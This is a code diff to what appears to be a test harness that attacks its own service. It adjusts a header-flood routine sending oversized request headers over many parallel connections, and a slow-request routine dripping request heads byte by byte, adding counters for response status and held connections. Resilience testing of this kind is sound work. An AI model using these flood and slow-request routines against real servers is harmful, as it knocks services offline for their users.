@@ -7,6 +7,7 @@ from evertick.domain.access import KEYSPACE, write_key
 from hostile.attacks.scene import Scene, again_and_again, all_of, rest_of, status_of
 
 MB = 1_048_576
+HELD_BYTES = 3
 
 
 async def header_flood(scene: Scene) -> None:
@@ -14,12 +15,13 @@ async def header_flood(scene: Scene) -> None:
     line = b"X-Flood: " + b"a" * 1013 + b"\r\n"
 
     async def send() -> None:
-        async with scene.connection() as (_, writer):
+        async with scene.connection() as (reader, writer):
             writer.write(b"GET /livez HTTP/1.1\r\nHost: attacked\r\n")
             for _ in range(scene.size(25, 100)):
                 writer.write(line * 1024)
                 await writer.drain()
                 scene.seen["sent MB"] += 1
+            scene.seen[await status_of(reader)] += 1
             await asyncio.sleep(5)
 
     await all_of(send() for _ in range(20))
@@ -82,6 +84,7 @@ async def slow_heads(scene: Scene) -> None:
                 writer.write(head[place : place + 1])
                 await writer.drain()
                 await asyncio.sleep(0.5)
+                scene.seen["heads held"] += place == HELD_BYTES
 
     await asyncio.gather(*(again_and_again(drip) for _ in range(scene.size(500, 2000))))
 
